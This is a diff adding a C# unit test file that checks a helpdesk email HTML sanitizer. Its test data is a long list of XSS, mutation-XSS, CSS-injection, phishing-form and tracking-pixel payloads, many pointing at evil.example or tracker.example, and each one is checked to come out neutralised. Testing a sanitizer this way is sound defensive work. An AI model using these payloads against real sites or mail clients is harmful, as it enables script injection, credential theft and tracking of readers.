@@ -1,0 +1,88 @@
+using HelpdeskMail.Helpdesk.Reading;
+using HelpdeskMail.Helpdesk.Tests.Hosting;
+
+namespace HelpdeskMail.Helpdesk.Tests.Reading;
+
+public sealed class MailSanitizerTests
+{
+    public static TheoryData<string> Hostile => new(
+        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
+        "<body onload=alert(1)><p>x</p>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">", "<template><img src=x onerror=alert(1)></template>",
+        "<a href=javascript:alert(1)>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\" &#14; javascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
+        "<a href=data:text/html,<script>alert(1)</script>>x</a>", "<a href=vbscript:msgbox(1)>x</a>", "<a href=file:///etc/passwd>x</a>", "<a href=blob:https://x/y>x</a>", "<a href=//evil.example target=_top>x</a>",
+        "<iframe src=https://evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=x.swf></object>", "<embed src=x>", "<base href=https://evil.example/><a href=x>x</a>",
+        "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';body{background:url(//evil.example)}</style>",
+        "<div style=\"background:url(https://evil.example/x)\">x</div>", "<div style=\"background-image:u\\72l(https://evil.example)\">x</div>", "<div style=\"width:expression(alert(1))\">x</div>",
+        "<div style=\"color:red;/*;*/background:url(x)/**/\">x</div>", "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9\">x</div>", "<div style=\"behavior:url(x)\">x</div>",
+        "<div style=\"-moz-binding:url(x)\">x</div>", "<div style='content:attr(title)'>x</div>", "<div style=\"list-style:url(https://evil.example)\">x</div>", "<div style=\"color:var(--x,url(x))\">x</div>",
+        "<div style=\"width:1px;background:image-set('https://evil.example' 1x)\">x</div>", "<div style=\"font-family:'x';}body{background:url(x)\">x</div>", "<div style='margin-top:-9999px'>x</div>",
+        "<form action=https://evil.example><input name=password><button>Sign in</button></form>", "<button formaction=javascript:alert(1)>x</button>", "<input type=image src=x onerror=alert(1)>",
+        "<img src=https://tracker.example/p.gif>", "<img srcset='https://tracker.example/p.gif 1x'>", "<img src=//tracker.example/p>", "<img src=cid:unknown>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
+        "<img src='data:image/png;base64,AAAA\" onerror=alert(1)'>", "<picture><source srcset=https://tracker.example/p></picture>", "<video poster=https://tracker.example/p></video>", "<table background=https://tracker.example/p><tr><td>x</td></tr></table>",
+        "<a href=https://x.example ping=https://tracker.example>x</a>", "<p id=main class=banner name=x>x</p>", "<img name=getElementById>", "<a id=location href=https://x.example>x</a>",
+        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>", "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><script>alert(1)", "<title><img src=x onerror=alert(1)></title>",
+        "<!--><script>alert(1)</script>-->", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
+        "<p title='\"><script>alert(1)</script>'>x</p>", "<p lang='x\"onmouseover=alert(1) y=\"'>x</p>", "<marquee onstart=alert(1)>x</marquee>", "<details open ontoggle=alert(1)>x</details>", "<div is=x-evil>x</div>",
+        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<a href='https://x.example/\"onclick=alert(1)'>x</a>", "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>");
+
+    [Theory]
+    [MemberData(nameof(Hostile))]
+    public void Hostile_html_comes_out_harmless_and_stays_so_when_read_again(string html)
+    {
+        var once = MailSanitizer.Rebuild(html, _ => null, remotePictures: false).Html;
+
+        HostileHtml.AssertHarmless(once, html);
+        HostileHtml.AssertHarmless(MailSanitizer.Rebuild(once, _ => null, remotePictures: false).Html, html);
+    }
+
+    [Fact]
+    public void Nesting_beyond_reason_is_flattened_without_losing_words()
+    {
+        var html = string.Concat(Enumerable.Repeat("<div>", 20_000)) + "deep words";
+
+        var rebuilt = MailSanitizer.Rebuild(html, _ => null, remotePictures: false).Html;
+
+        rebuilt.ShouldContain("deep words");
+        rebuilt.Length.ShouldBeLessThan(5_000);
+    }
+
+    [Fact]
+    public void Ordinary_formatting_survives()
+    {
+        var rebuilt = MailSanitizer.Rebuild(
+            "<p style=\"color:#c00;margin-left:12px\">Dear <b>team</b>,</p><table border=1 cellpadding=4><tr><td bgcolor=yellow colspan=2>A</td></tr></table><ul><li>one</ul><a href='https://contoso.example/a?b=1&amp;c=2'>here</a>",
+            _ => null, remotePictures: false);
+
+        rebuilt.Html.ShouldContain("style=\"color:#c00;margin-left:12px;\"");
+        rebuilt.Html.ShouldContain("<b>team</b>");
+        rebuilt.Html.ShouldContain("colspan=\"2\"");
+        rebuilt.Html.ShouldContain("href=\"https://contoso.example/a?b=1&amp;c=2\"");
+        rebuilt.HasOwnColours.ShouldBeTrue();
+    }
+
+    [Fact]
+    public void Pictures_from_elsewhere_are_counted_by_host_and_shown_when_asked_for()
+    {
+        const string html = "<img src=https://a.example/1.png><img src=//b.example/2.png><img src=cid:logo>";
+
+        var blocked = MailSanitizer.Rebuild(html, id => id == "logo" ? "/attachments/7/inline" : null, remotePictures: false);
+        var shown = MailSanitizer.Rebuild(html, _ => null, remotePictures: true);
+
+        blocked.BlockedPictures.ShouldBe(2);
+        blocked.Hosts.ShouldBe(["a.example", "b.example"]);
+        blocked.Html.ShouldContain("src=\"/attachments/7/inline\"");
+        shown.Html.ShouldContain("src=\"https://a.example/1.png\"");
+    }
+
+    [Theory]
+    [InlineData("https://www.contoso.example/login", "http://evil.example/x", true)]
+    [InlineData("contoso.example", "https://contoso.example.evil.example/", true)]
+    [InlineData("contoso.example", "https://www.contoso.example/login", false)]
+    [InlineData("www.contoso.example", "https://contoso.example/", false)]
+    [InlineData("Click here", "http://evil.example/x", false)]
+    public void Link_whose_words_name_another_host_says_where_it_leads(string words, string target, bool said) =>
+        MailSanitizer.Rebuild($"<a href=\"{target}\">{words}</a>", _ => null, remotePictures: false).Html.Contains("hdm-target", StringComparison.Ordinal).ShouldBe(said);
+}
